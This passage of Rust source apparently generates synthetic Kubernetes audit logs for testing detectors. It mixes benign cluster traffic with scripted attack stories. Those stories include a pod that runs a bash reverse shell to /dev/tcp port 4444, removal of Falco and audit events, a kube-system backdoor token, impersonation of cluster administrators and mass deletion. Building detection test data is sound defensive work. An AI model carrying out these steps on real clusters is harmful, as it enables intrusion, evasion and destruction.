        let csr = json!({"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":csr_name},"spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]}});
        vec![
            base("create", "certificatesigningrequests", t, &mut rng).name(&csr_name).req(csr).build(),
            base("update", "certificatesigningrequests", t + 2_000_000, &mut rng)
                .name(&csr_name)
                .sub("approval")
                .build(),
        ]
    });
    step!("Expose the dashboard and a node port", "Initial Access", &["PAL-KA-054", "PAL-KA-055"], {
        vec![
            base("create", "services", t, &mut rng)
                .ns("kubernetes-dashboard")
                .name("kubernetes-dashboard-lb")
                .req(service(
                    "kubernetes-dashboard",
                    "kubernetes-dashboard-lb",
                    "LoadBalancer",
                    json!({"k8s-app": "kubernetes-dashboard"}),
                    443,
                ))
                .build(),
            base("create", "services", t + 1_000_000, &mut rng)
                .ns(&ans)
                .name("debug-np")
                .req(service(&ans, "debug-np", "NodePort", json!({"app": "web"}), 8080))
                .build(),
        ]
    });
    step!(
        "Cover tracks: delete events, remove Falco, relax pod security",
        "Defense Evasion",
        &["PAL-KA-053", "PAL-KA-058", "PAL-KA-019"],
        {
            vec![
                base("deletecollection", "events", t, &mut rng).ns("kube-system").build(),
                base("delete", "daemonsets", t + 1_000_000, &mut rng).ns("falco").name("falco").build(),
                base("patch", "namespaces", t + 2_000_000, &mut rng)
                    .name(&ans)
                    .req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}))
                    .build(),
            ]
        }
    );
    step!(
        "Keep access: long-lived token and a service account in kube-system",
        "Persistence",
        &["PAL-KA-037", "PAL-KA-046"],
        {
            vec![
            base("create", "serviceaccounts", t, &mut rng).ns("kube-system").name("kube-backup").req(json!({"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"kube-backup","namespace":"kube-system"}})).build(),
            base("create", "secrets", t + 1_000_000, &mut rng)
                .ns("kube-system")
                .name("kube-backup-token")
                .req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"kube-backup-token","namespace":"kube-system","annotations":{"kubernetes.io/service-account.name":"kube-backup"}},"type":"kubernetes.io/service-account-token"}))
                .build(),
        ]
        }
    );
    step!("Impersonate a cluster administrator", "Privilege Escalation", &["PAL-KA-043"], {
        vec![base("get", "secrets", t, &mut rng)
            .ns("kube-system")
            .name("bootstrap-token-abcdef")
            .impersonate("system:admin", &["system:masters", "system:authenticated"])
            .build()]
    });
    step!("A static pod appears on a node", "Persistence", &["PAL-KA-018"], {
        let name = format!("kube-metrics-node-{}", 3 + k % 3);
        let mut p = pod(
            "kube-system",
            &name,
            json!({"tier": "node"}),
            pod_spec(vec![container("metrics", "docker.io/library/alpine:3.19")], "default"),
        );
        p["metadata"]["annotations"] = json!({"kubernetes.io/config.hash": "8b1a9953c4611296a827abf8c47804d7", "kubernetes.io/config.mirror": "8b1a9953c4611296a827abf8c47804d7", "kubernetes.io/config.source": "file"});
        let node = format!("node-{}", 3 + k % 3);
        vec![EventBuilder::new("create", "pods")
            .node(&node)
            .ip("10.0.0.13")
            .ua("kubelet/v1.30.2 (linux/amd64) kubernetes/3968350")
            .ns("kube-system")
            .name(&name)
            .at(t)
            .id(&rng.uuid())
            .req(p)
            .build()]
    });
    step!("Drop a reverse shell", "Execution", &["PAL-KA-008"], {
        let mut c = container("debug", "ghcr.io/corp/tools:1.0");
        c["command"] = json!(["/bin/bash", "-c", format!("bash -i >& /dev/tcp/{ip}/4444 0>&1")]);
        let p = pod(&ans, "debug", json!({"run": "debug"}), pod_spec(vec![c], &asa));
        vec![base("create", "pods", t, &mut rng).ns(&ans).name("debug").req(p).build()]
    });
    step!(
        "Destroy: mass deletion, namespace and node deletion",
        "Impact",
        &["PAL-KA-056", "PAL-KA-059", "PAL-KA-060"],
        {
            let mut v = Vec::new();
            for i in 0..22 {
                v.push(
                    base("delete", "deployments", t + i * 800_000, &mut rng)
                        .ns("payments")
                        .name(&format!("svc-{i}"))
                        .build(),
                );
            }
            v.push(base("delete", "namespaces", t + 20_000_000, &mut rng).name("payments").build());
            v.push(base("delete", "nodes", t + 21_000_000, &mut rng).name("node-4").build());
            v
        }
    );
    let _ = t;
    steps
}

// ---------------------------------------------------------------------------------------------
// Benign background traffic

const NODES: &[&str] = &["node-1", "node-2", "node-3", "node-4", "node-5", "node-6"];
const TEAMS: &[(&str, &str, &str)] = &[
    ("team-a", "alice@corp.example", "203.0.113.10"),
    ("team-b", "bob@corp.example", "203.0.113.11"),
    ("shop", "carol@corp.example", "203.0.113.12"),
    ("payments", "dave@corp.example", "203.0.113.13"),
];
const APPS: &[(&str, &str, &str)] = &[
    ("shop", "web", "ghcr.io/corp/shop-web:2.14.1"),
    ("shop", "checkout", "ghcr.io/corp/checkout:1.8.0"),
    ("payments", "ledger", "registry.k8s.io/e2e-test-images/agnhost:2.47"),
    ("team-a", "api", "docker.io/library/nginx:1.27"),
    ("team-b", "worker", "quay.io/corp/worker:5.0.2"),
    ("monitoring", "prometheus", "quay.io/prometheus/prometheus:v2.52.0"),
];
const CONTROLLERS: &[(&str, &str, &str)] = &[
    ("replicaset-controller", "pods", "list"),
    ("deployment-controller", "replicasets", "list"),
    ("endpointslice-controller", "endpointslices", "update"),
    ("endpoint-controller", "endpoints", "update"),
    ("daemon-set-controller", "daemonsets", "watch"),
    ("statefulset-controller", "statefulsets", "watch"),
    ("job-controller", "jobs", "list"),
    ("cronjob-controller", "cronjobs", "list"),
    ("generic-garbage-collector", "replicasets", "list"),
    ("namespace-controller", "namespaces", "get"),
    ("resourcequota-controller", "resourcequotas", "update"),
    ("horizontal-pod-autoscaler", "horizontalpodautoscalers", "update"),
];

/// Benign cluster traffic, an endless time-ordered stream of JSON lines.
#[derive(Debug)]
pub struct Background {
    rng: Rng,
    t: i64,
    step_us: i64,
    // Human and CI actions happen at human pace whatever the event rate: the next time each
    // rare kind of event may happen again (CI rollout, config edit, pod deletion, forbidden).
    gates: [i64; 4],
}

impl Background {
    /// Traffic at `rate` events per second from `start_us`.
    pub fn new(seed: u64, start_us: i64, rate: u32) -> Self {
        Background {
            rng: Rng::new(seed),
            t: start_us,
            step_us: 1_000_000 / i64::from(rate.max(1)),
            gates: [start_us; 4],
        }
    }

    /// Time of the next event.
    pub fn peek_time(&self) -> i64 {
        self.t
    }

    /// The next benign event.
    pub fn next_event(&mut self) -> (i64, String) {
        let t = self.t;
        self.t += self.step_us.max(1);
        let r = &mut self.rng;
        let id = r.uuid();
        let mut roll = r.below(1000);
        let gate = match roll {
            940..=949 => Some((0, 3_000_000)),
            950..=959 => Some((1, 5_000_000)),
            990..=994 => Some((2, 20_000_000)),
            995..=999 => Some((3, 15_000_000)),
            _ => None,
        };
        if let Some((g, interval)) = gate {
            if t < self.gates[g] {
                roll = 0; // too soon for people: a lease renewal instead
            } else {
                self.gates[g] = t + interval;
            }
        }
        let kubelet_ua = "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350";
        let kcm_ua = |sa: &str| {
            format!("kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{sa}")
        };
        let node = *r.pick(NODES);
        let node_ip = format!("10.0.0.{}", 11 + NODES.iter().position(|n| *n == node).unwrap_or(0));
        let ev = match roll {
            // kubelet lease renewal
            0..=229 => EventBuilder::new("update", "leases").node(node).ip(&node_ip).ua(kubelet_ua).ns("kube-node-lease").name(node),
            // kubelet node status
            230..=279 => EventBuilder::new("patch", "nodes")
                .node(node)
                .ip(&node_ip)
                .ua(kubelet_ua)
                .name(node)
                .sub("status")
                .req(json!({"status":{"$setElementOrder/conditions":[{"type":"MemoryPressure"},{"type":"DiskPressure"},{"type":"PIDPressure"},{"type":"Ready"}],"conditions":[{"lastHeartbeatTime":format_rfc3339_us(t),"type":"Ready"}]}})),
            // kubelet reads what its pods need
            280..=359 => {
                let (ns, app, _) = *r.pick(APPS);
                let (res, name) = match r.below(3) {
                    0 => ("secrets", format!("{app}-tls")),
                    1 => ("configmaps", "kube-root-ca.crt".to_string()),
                    _ => ("pods", format!("{app}-{}", r.suffix(5))),
                };
                let verb = if r.below(2) == 0 { "get" } else { "watch" };
                EventBuilder::new(verb, res).node(node).ip(&node_ip).ua(kubelet_ua).ns(ns).name(&name)
            }
            // kubelet events
            360..=409 => {
                let (ns, app, _) = *r.pick(APPS);
                EventBuilder::new("create", "events").node(node).ip(&node_ip).ua(kubelet_ua).ns(ns).name(&format!("{app}-{}.17d3f0a1b2c3d4e5", r.suffix(5)))
            }
            // kubelet projected token refresh
            410..=429 => {
                let (ns, app, _) = *r.pick(APPS);
                EventBuilder::new("create", "serviceaccounts").node(node).ip(&node_ip).ua(kubelet_ua).ns(ns).name(app).sub("token")
            }
            // controllers
            430..=599 => {
                let (sa, res, verb) = *r.pick(CONTROLLERS);
                let (ns, app, _) = *r.pick(APPS);
                let mut e = EventBuilder::new(verb, res).sa("kube-system", sa).ip("10.0.0.10").ua(&kcm_ua(sa));
                if verb != "list" && verb != "watch" {
                    e = e.ns(ns).name(app);
                }
                e
            }
            // controller manager leader election
            600..=629 => EventBuilder::new("update", "leases")
                .user("system:kube-controller-manager", &[])
                .ip("10.0.0.10")
                .ua("kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/leader-election")
                .ns("kube-system")
                .name("kube-controller-manager"),
            // scheduler binds pods
            630..=649 => {
                let (ns, app, _) = *r.pick(APPS);
                let name = format!("{app}-{}-{}", r.suffix(10), r.suffix(5));
                EventBuilder::new("create", "pods")
                    .user("system:kube-scheduler", &[])
                    .ip("10.0.0.10")
                    .ua("kube-scheduler/v1.30.2 (linux/amd64) kubernetes/3968350/scheduler")
                    .ns(ns)
                    .name(&name)
                    .sub("binding")
                    .req(json!({"kind":"Binding","apiVersion":"v1","metadata":{"name":name,"namespace":ns},"target":{"kind":"Node","name":node}}))
            }
            // replicaset controller creates pods (full pod spec)
            650..=664 => {
                let (ns, app, image) = *r.pick(APPS);
                let name = format!("{app}-{}-{}", r.suffix(10), r.suffix(5));
                let mut p = pod(ns, &name, json!({"app": app, "pod-template-hash": r.suffix(10)}), pod_spec(vec![container(app, image)], app));
                p["metadata"]["ownerReferences"] = json!([{"apiVersion":"apps/v1","kind":"ReplicaSet","name":format!("{app}-{}", r.suffix(10)),"uid":r.uuid(),"controller":true,"blockOwnerDeletion":true}]);
                let uid = r.uuid();
                EventBuilder::new("create", "pods")
                    .sa("kube-system", "replicaset-controller")
                    .ip("10.0.0.10")
                    .ua(&kcm_ua("replicaset-controller"))
                    .ns(ns)
                    .name(&name)
                    .req(p.clone())
                    .resp(created(p, &uid, t))
            }
            // monitoring scrapes
            665..=729 => {
                let res = *r.pick(&["pods", "endpoints", "services", "nodes", "endpointslices"]);
                let mut e = EventBuilder::new(if r.below(3) == 0 { "watch" } else { "list" }, res)
                    .sa("monitoring", "prometheus")
                    .ip("10.244.3.17")
                    .ua("Prometheus/2.52.0");
                if res == "nodes" && r.below(2) == 0 {
                    e = EventBuilder::new("get", "nodes").sa("monitoring", "prometheus").ip("10.244.3.17").ua("Prometheus/2.52.0").name(node).sub("metrics");
                }
                e
            }
            // applications read their own config and secrets
            730..=779 => {
                let (ns, app, _) = *r.pick(APPS);
                let res = if r.below(2) == 0 { "configmaps" } else { "secrets" };
                let name = if res == "secrets" { format!("{app}-db") } else { format!("{app}-config") };
                let code = if r.below(40) == 0 { 404 } else { 200 };
                EventBuilder::new("get", res)
                    .sa(ns, app)
                    .ip(&format!("10.244.{}.{}", 1 + r.below(6), 2 + r.below(250)))
                    .ua(&format!("{app}/v1 (linux/amd64) client-go/v0.30.2"))
                    .ns(ns)
                    .name(&name)
                    .code(code)
            }
            // people work in their namespaces
            780..=899 => {
                let (ns, user, ip) = *r.pick(TEAMS);
                let kubectl = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350";
                match r.below(10) {
                    0..=3 => EventBuilder::new("list", "pods").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns),
                    4 => EventBuilder::new("get", "pods").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns).name(&format!("api-{}", r.suffix(5))).sub("log"),
                    5 => EventBuilder::new("list", "deployments").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns),
                    6 => EventBuilder::new("list", "services").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns),
                    7 => EventBuilder::new("get", "configmaps").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns).name("app-settings"),
                    8 => EventBuilder::new("list", "events").user(user, &["developers"]).ip(ip).ua(kubectl).ns(ns),
                    _ => EventBuilder::new("create", "selfsubjectaccessreviews")
                        .user(user, &["developers"])
                        .ip(ip)
                        .ua(kubectl)
                        .req(json!({"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"resourceAttributes":{"namespace":ns,"verb":"create","resource":"deployments"}}})),
                }
            }
            // watches (long-running: ResponseStarted and ResponseComplete)
            900..=939 => {
                let (sa, res, _) = *r.pick(CONTROLLERS);
                let stage = if r.below(2) == 0 { Stage::ResponseStarted } else { Stage::ResponseComplete };
                EventBuilder::new("watch", res).sa("kube-system", sa).ip("10.0.0.10").ua(&kcm_ua(sa)).stage(stage)
            }
            // CI rolls out a deployment (trusted registry, restricted pod)
            940..=949 => {
                let (ns, app, _) = *r.pick(&APPS[..5]);
                let image = format!("ghcr.io/corp/{app}:{}.{}.{}", 1 + r.below(3), r.below(20), r.below(10));
                let d = workload("Deployment", ns, app, pod_spec(vec![container(app, &image)], app));
                EventBuilder::new("patch", "deployments")
                    .sa("ci", "deployer")
                    .ip("10.244.5.40")
                    .ua("argocd-application-controller/v2.11.3")
                    .ns(ns)
                    .name(app)
                    .req(json!({"spec": d["spec"]}))
            }
            // users update their config maps
            950..=959 => {
                let (ns, user, ip) = *r.pick(TEAMS);
                EventBuilder::new("update", "configmaps")
                    .user(user, &["developers"])
                    .ip(ip)
                    .ua("kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350")
                    .ns(ns)
                    .name("app-settings")
                    .req(json!({"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"app-settings","namespace":ns},"data":{"LOG_LEVEL":"info","FEATURE_X":"true"}}))
            }
            // health probes by the load balancer (anonymous, allowed)
            960..=979 => {
                let path = *r.pick(&["/readyz", "/livez", "/healthz"]);
                EventBuilder::new("get", "")
                    .anonymous()
                    .ip(&format!("10.0.0.{}", 2 + r.below(3)))
                    .ua("kube-probe/1.30")
                    .uri(path)
                    .reason("RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\"")
            }
            // garbage collection deletes finished pods and old replica sets
            980..=989 => {
                let (ns, app, _) = *r.pick(APPS);
                EventBuilder::new("delete", if r.below(2) == 0 { "pods" } else { "replicasets" })
                    .sa("kube-system", "generic-garbage-collector")
                    .ip("10.0.0.10")
                    .ua(&kcm_ua("generic-garbage-collector"))
                    .ns(ns)
                    .name(&format!("{app}-{}", r.suffix(10)))
            }
            // a user deletes a pod (restart) now and then; a few forbidden requests
            990..=994 => {
                let (ns, user, ip) = *r.pick(TEAMS);
                EventBuilder::new("delete", "pods").user(user, &["developers"]).ip(ip).ua("kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350").ns(ns).name(&format!("api-{}", r.suffix(5)))
            }
            _ => {
                let (ns, user, ip) = *r.pick(TEAMS);
                EventBuilder::new("list", "secrets").user(user, &["developers"]).ip(ip).ua("kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350").ns(if ns == "team-a" { "kube-system" } else { ns }).code(if ns == "team-a" { 403 } else { 200 })
            }
        };
        (t, ev.at(t).id(&id).build())
    }
}

/// Settings for [`Generator`].
#[derive(Debug, Clone)]
pub struct SimConfig {
    /// Seed; the same seed gives the same log.
    pub seed: u64,
    /// Benign events.
    pub background_events: u64,
    /// Attack stories mixed in (spread evenly).
    pub stories: usize,
    /// First event time, microseconds since the epoch.
    pub start_us: i64,
    /// Benign events per second.
    pub rate: u32,
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig { seed: 1, background_events: 20_000, stories: 1, start_us: 1_717_236_000_000_000, rate: 200 }
    }
}

/// A time-ordered mix of background traffic and attack stories; yields JSON lines.
#[derive(Debug)]
pub struct Generator {
    cfg: SimConfig,
    bg: Background,
    bg_left: u64,
    next_story: usize,
    story_starts: Vec<i64>,
    pending: std::collections::BinaryHeap<std::cmp::Reverse<(i64, u64, String)>>,
    seq: u64,
    /// Attack events emitted.
    pub malicious: u64,
}

impl Generator {
    /// A generator for `cfg`.
    pub fn new(cfg: SimConfig) -> Self {
        let span = cfg.background_events as i64 * (1_000_000 / i64::from(cfg.rate.max(1)));
        let story_starts = (0..cfg.stories)
            .map(|k| cfg.start_us + span * (2 * k as i64 + 1) / (2 * cfg.stories.max(1) as i64))
            .collect();
        Generator {
            bg: Background::new(cfg.seed, cfg.start_us, cfg.rate),
            bg_left: cfg.background_events,
            next_story: 0,
            story_starts,
            pending: Default::default(),
            seq: 0,
            malicious: 0,
            cfg,
        }
    }

    fn load_stories_until(&mut self, t: i64) {
        while self.next_story < self.story_starts.len() && self.story_starts[self.next_story] <= t {
            let k = self.next_story;
            for step in attack_story(self.cfg.seed, self.story_starts[k], k) {
                for e in step.events {
                    // event time is inside the JSON; order by step time + sequence
                    let et = crate::audit::parse_event(&e).map(|a| a.time_us).unwrap_or(step.time_us);
                    self.seq += 1;
                    self.pending.push(std::cmp::Reverse((et, self.seq, e)));
                }
            }
            self.next_story += 1;
        }
    }
}

impl Iterator for Generator {
    type Item = String;
    fn next(&mut self) -> Option<String> {
        let bg_t = if self.bg_left > 0 { self.bg.peek_time() } else { i64::MAX };
        self.load_stories_until(bg_t);
        if let Some(std::cmp::Reverse((t, _, _))) = self.pending.peek() {
            if *t <= bg_t {
                self.malicious += 1;
                return self.pending.pop().map(|std::cmp::Reverse((_, _, e))| e);
            }
        }
        if self.bg_left == 0 {
            return None;
        }
        self.bg_left -= 1;
        Some(self.bg.next_event().1)
    }
}
